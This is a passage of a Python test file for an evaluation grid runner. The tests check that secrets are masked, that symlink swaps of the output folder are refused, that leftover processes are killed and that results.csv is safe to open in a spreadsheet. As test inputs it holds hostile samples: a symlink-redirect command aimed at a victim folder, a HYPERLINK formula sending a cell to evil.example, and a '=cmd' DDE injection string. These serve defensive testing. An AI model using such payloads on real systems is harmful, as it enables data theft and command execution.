    files = [path for path in (tmp_path / "out").rglob("*") if path.is_file()]
    assert {path.name for path in files} >= {"notes.txt", "config.ini", "stdout.txt", "unit.json", "results.csv"}
    for path in files:
        text = path.read_text(errors="replace")
        assert printed not in text and named not in text, (path.name, text[:300])


def test_a_command_that_swaps_the_grids_output_folder_gets_nothing_written_through_it(tmp_path):
    victim = tmp_path / "victim"
    (victim / "units").mkdir(parents=True)
    (victim / "teacher.env").write_text("password = TeacherPw77\n")
    swap = ("import json, os, sys; out = sys.argv[1]; os.rename(out, out + '-moved'); os.symlink(sys.argv[2], out); "
            "print(json.dumps(dict(done=1)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", swap, str(tmp_path / "out"), str(victim), "{x}"],
                        grid={"x": [0]}, retries=0, workers=1)
    with pytest.raises(RuntimeError, match="was replaced while the grid ran"):
        grid.run_grid(spec)
    assert sorted(p.name for p in victim.rglob("*")) == ["teacher.env", "units"]
    assert (victim / "teacher.env").read_text() == "password = TeacherPw77\n"


def test_a_folder_a_unit_renamed_its_own_to_is_scrubbed(tmp_path, monkeypatch):
    monkeypatch.setenv("PROBE_API_TOKEN", TOKEN)
    move = ("import glob, json, os, sys; folder = glob.glob(sys.argv[1] + '/*')[0]; "
            "open(os.path.join(folder, 'leak.txt'), 'w').write(os.environ['PROBE_API_TOKEN']); "
            "os.rename(folder, os.path.join(sys.argv[1], 'moved-' + os.environ['PROBE_API_TOKEN'])); "
            "print(json.dumps(dict(done=1)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", move, str(tmp_path / "out" / "units"), "{x}"],
                        grid={"x": [0]}, retries=0)
    grid.run_grid(spec)
    for path in (tmp_path / "out").rglob("*"):
        assert TOKEN not in path.name and (path.is_dir() or TOKEN not in path.read_text()), path


def test_a_unit_leaves_no_process_behind_when_it_ends_or_times_out(tmp_path):
    """A background child would hold the output pipes open (the unit hung until it ended) and a timed-out
    unit's grandchild ran on: both are killed with the unit's process group."""
    import time

    leave = ("import json, subprocess, sys; child = subprocess.Popen(['sleep', '30']); "
             "open(sys.argv[2], 'w').write(str(child.pid)); import time; time.sleep(int(sys.argv[1])); "
             "print(json.dumps(dict(done=1)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", leave, "{x}", str(tmp_path / "pid_{x}")],
                        grid={"x": [0, 30]}, retries=0, timeout_s=3)
    started = time.time()
    outcome = grid.run_grid(spec)
    assert time.time() - started < 20
    table = outcome.table.set_index("param/x")
    assert table.loc[0, "status"] == "ok" and table.loc[0, "done"] == 1
    assert table.loc[30, "status"] == "failed" and "still running after timeout_s = 3 s" in table.loc[30, "error"]
    time.sleep(0.5)
    assert not [x for x in (0, 30) if _alive(int((tmp_path / f"pid_{x}").read_text()))]


def test_literal_credentials_in_other_command_forms_are_masked():
    """A value starting with '-', a '--pw=' option, and a shell line inside one argument ('sh -c "..."') kept
    their literal password in unit.json and the unit's outputs."""
    from evalkit.grid.command_secrets import _command_secrets
    from evalkit.grid.masking import _public_command

    command = ["tool", "--password", "-Xs3cretA", "--pw=s3cretB", "sh", "-c", "run --api-key s3cretC --seed 1"]
    assert set(_command_secrets(command)) == {"-Xs3cretA", "s3cretB", "s3cretC"}
    shown = " ".join(_public_command(command))
    assert not any(secret in shown for secret in ("s3cretA", "s3cretB", "s3cretC")), shown
    assert "--seed 1" in shown and "--password ***" in shown


def test_a_result_whose_text_looks_like_a_query_is_read_and_results_csv_is_spreadsheet_safe(tmp_path):
    """Stdout was masked before its result line was read, so a text holding
    ``?x=\\"`` lost its closing quote and the unit failed with "no result"; and results.csv wrote a parameter or a
    printed text that starts with "=" as a formula."""
    result = {"score": 1.5, "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)": 2,
              "link": "https://h.example/v1?sig=Sg7sig7sig7s"}
    spec = command_spec(tmp_path, command=[sys.executable, "-c", f"import json; print(json.dumps({result!r}))"],
                        grid={"x": ["=cmd|' /C calc'!A0", "plain"]}, retries=0)
    outcome = grid.run_grid(spec)
    assert not outcome.failed, outcome.failed
    assert set(outcome.table["score"]) == {1.5}
    assert all("sig=***" in link for link in outcome.table["link"])  # the result is masked after it is read
    written = (tmp_path / "out" / "results.csv").read_text()
    assert "Sg7sig7sig7s" not in written
    cells = [cell for line in written.splitlines() for cell in next(__import__("csv").reader([line]))]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'=cmd|' /C calc'!A0" in cells and "plain" in cells and "'@SUM(1)" in cells  # a header cell too


@pytest.mark.parametrize("workers", [1, 2])
def test_a_folder_left_where_a_units_record_goes_fails_that_unit_only(tmp_path, workers):
    """A command that made a folder named ``unit.json`` in its own unit folder crashed the whole grid (the record
    could not replace it): no results.csv, later units never ran. The folder is moved aside and the record
    written; every unit runs and results.csv is written."""
    block = ("import glob, json, os, sys; x = int(sys.argv[2]); "
             "[os.makedirs(os.path.join(f, 'unit.json', 'inner'), exist_ok=True) "
             " for f in glob.glob(sys.argv[1] + '/*') "
             " if x == 2 and not os.path.exists(os.path.join(f, 'unit.json'))]; "
             "print(json.dumps(dict(x=x)))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", block, str(tmp_path / "out" / "units"), "{x}"],
                        grid={"x": [1, 2, 3, 4]}, retries=0, workers=workers)
    outcome = grid.run_grid(spec)
    assert sorted(outcome.table["status"].tolist()) == ["ok"] * 4, outcome.table["error"].tolist()
    assert (tmp_path / "out" / "results.csv").is_file()
    left = list((tmp_path / "out" / "units").glob("*/unit.json.left-by-command"))
    assert left and all(path.is_dir() for path in left)


def test_a_token_given_as_a_user_is_masked_in_the_record_and_output(tmp_path, capfd):
    """A literal ``https://TOKEN@github.com/...`` argument and curl's ``-u TOKEN:`` (a user with an empty password,
    Stripe's form) kept the token in stdout.txt and in unit.json's command."""
    token, key = "tkArg7HnQ2pLm9Xc4", "tkCurlU5Lm9Pq3Rs7Tv"
    # the program prints each argument's user bare ("cloning as TOKEN"), as a tool reporting its login would
    echo = ("import json, sys; "
            "print('as:', ' '.join(a.split('//')[-1].split('@')[0].rstrip(':') for a in sys.argv[1:])); "
            "print(json.dumps({'ok': 1}))")
    spec = command_spec(tmp_path, command=[sys.executable, "-c", echo, f"https://{token}@github.com/org/repo.git",
                                           "-u", f"{key}:", "{x}"], grid={"x": [1]}, retries=0)
    outcome = grid.run_grid(spec)
    assert outcome.table["status"].tolist() == ["ok"]
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            text = path.read_text(errors="replace")
            assert token[:8] not in text and key[:8] not in text, (path.name, text[:400])


def test_a_token_given_as_the_user_of_a_url_parameter_is_masked_where_printed_bare(tmp_path):
    """``base_url: http://TOKEN@host/v1`` (and ``TOKEN:x-oauth-basic@``): the model door reads such a user name as
    a secret, and the grid must too — curl -v prints "Server auth using Basic with user 'TOKEN'"."""
    token = "tkUser9Kq7Lm2Vt8"
    show = ("import json, sys; from urllib.parse import urlsplit; "
            "print('connecting as', urlsplit(sys.argv[1]).username); print(json.dumps({'ok': 1}))")
    urls = [f"http://{token}@127.0.0.1:9/v1", f"http://{token}:x-oauth-basic@127.0.0.1:9/v1"]
    spec = command_spec(tmp_path, command=[sys.executable, "-c", show, "{base_url}"], retries=0,
                        grid={"base_url": urls})
    outcome = grid.run_grid(spec)
    assert outcome.table["status"].tolist() == ["ok", "ok"]
    for path in (tmp_path / "out").rglob("*"):
        if path.is_file():
            assert token[:8] not in path.read_text(errors="replace"), path.name
